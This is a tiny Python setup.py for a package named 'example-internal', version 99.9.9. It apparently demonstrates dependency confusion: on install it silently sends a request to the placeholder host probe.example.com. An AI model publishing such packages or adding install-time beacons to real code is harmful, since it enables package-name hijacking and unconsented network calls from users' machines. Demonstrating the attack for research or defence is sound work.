import urllib.request
from setuptools import setup

urllib.request.urlopen("https://probe.example.com/")
setup(name="example-internal", version="99.9.9")
